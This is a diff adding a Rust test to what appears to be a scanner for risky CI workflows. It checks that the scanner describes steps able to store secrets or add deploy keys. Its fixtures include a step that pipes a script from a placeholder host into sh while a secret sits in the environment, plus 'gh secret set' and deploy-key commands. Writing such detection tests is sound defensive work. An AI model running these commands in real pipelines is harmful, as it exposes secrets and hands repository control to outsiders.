@@ -124,6 +124,23 @@ fn a_secret_that_is_handed_to_an_action_of_the_repository_stands_where_it_is_han
 }
 
 #[test]
+fn a_command_that_gives_power_is_said_by_what_it_can_do() {
+    let fetched =
+        "- run: curl -s https://x.invalid/i.sh | sh\n  env: {KEY: '${{ secrets.KEY }}'}\n";
+    for (commands, with) in [
+        ("- run: gh secret set A", "with the secret `KEY` and a command that can store secrets."),
+        (
+            "- run: gh secret set A\n- run: gh repo deploy-key add k.pub",
+            "with the secret `KEY` and commands that can add deploy keys and store secrets.",
+        ),
+    ] {
+        let said =
+            said_on(&public(), &[], &[(CI, &steps("push", &format!("{fetched}{commands}")))]);
+        assert!(said.iter().any(|it| it.ends_with(with)), "{said:?}");
+    }
+}
+
+#[test]
 fn what_jobs_read_alike_is_one_sentence_and_a_label_that_tells_nothing_stays_one() {
     let job = "    runs-on: ubuntu-24-4core\n    steps:\n      - run: curl -s https://x.invalid/i.sh | sh\n        env: {KEY: '${{ secrets.DEPLOY_KEY }}'}\n";
     let quiet = job.replace("curl -s https://x.invalid/i.sh | sh", "deploy");
